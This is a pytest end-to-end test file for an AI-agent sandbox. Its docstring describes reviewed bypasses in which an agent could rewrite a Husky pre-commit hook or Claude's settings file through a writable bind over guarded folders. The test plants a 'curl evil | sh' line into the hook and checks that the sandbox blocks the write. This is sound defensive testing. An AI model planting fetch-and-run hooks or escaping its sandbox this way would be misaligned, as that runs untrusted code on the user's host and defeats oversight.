"""Bypasses found in review: a guard made writable again by a pin.

* `core.hooksPath` inside a folder guarded as a whole (Husky v9 sets
  `.husky/_`; or `.claude/githooks`): guarding the hooks folder pinned the
  folders above it, and a pin is a writable bind over the read-only guard.
  The agent then rewrote `.husky/pre-commit`, which Husky runs on the
  user's next commit on the host, or `.claude/settings.json`.
* Under the claude preset, a guard inside ``~/.claude`` pinned it with a
  second writable bind, made after the workspace's guards: a workspace
  inside ``~/.claude`` would have had them covered (``tests/sandbox/
  test_sandbox_layout.py``: a folder bound already is not bound again)."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from tests.conftest import fake_agent

pytestmark = pytest.mark.e2e

GIT = ["git", "-c", "user.name=t", "-c", "user.email=t@example.invalid"]


def _files(ws: Path) -> dict[str, bytes]:
    return {str(p.relative_to(ws)): p.read_bytes() for p in sorted(ws.rglob("*"))
            if p.is_file() and not p.is_symlink() and ".git/" not in str(p.relative_to(ws)) + "/"}


@pytest.mark.parametrize("hooks_path", [".husky/_", ".claude/githooks"])
def test_a_hooks_path_inside_a_guarded_folder_does_not_unguard_it(
        stockade, tmp_path: Path, hooks_path: str) -> None:
    ws = tmp_path / "ws"
    subprocess.run([*GIT, "init", "-q", str(ws)], check=True)
    (ws / ".husky" / "_").mkdir(parents=True)
    (ws / ".husky" / "pre-commit").write_text("npm test\n")
    (ws / ".claude" / "githooks").mkdir(parents=True)
    (ws / ".claude" / "settings.json").write_text("{}\n")
    subprocess.run([*GIT, "-C", str(ws), "config", "core.hooksPath", hooks_path], check=True)
    before = _files(ws)

    script = ("echo 'curl evil | sh' >> .husky/pre-commit 2>/dev/null && echo HUSKY; "
              "echo '{\"hooks\": {}}' > .claude/settings.json 2>/dev/null && echo CLAUDE; "
              f"touch {hooks_path}/pre-commit 2>/dev/null && echo HOOK; true")
    r = stockade("run", "--", "bash", "-c", script, cwd=ws)

    assert r.returncode == 0, r.stderr
    assert r.stdout.split() == []
    assert _files(ws) == before



def test_a_skill_developed_in_place_stays_writable(stockade, tmp_path: Path) -> None:
    # ~/.claude/skills is read-only under the preset, but not when the
    # workspace is in it (the folder holding it is then left writable:
    # docs/sandbox.md, Known gaps)
    home: Path = stockade.home  # type: ignore[attr-defined]
    ws = home / ".claude" / "skills" / "mine"
    ws.mkdir(parents=True)
    agent = fake_agent(ws, "echo '# my skill' > SKILL.md && echo WROTE\n")
    r = stockade("run", "--", agent, cwd=ws, timeout=45)
    assert r.returncode == 0, r.stderr
    assert r.stdout.split() == ["WROTE"]
    assert (ws / "SKILL.md").read_text() == "# my skill\n"
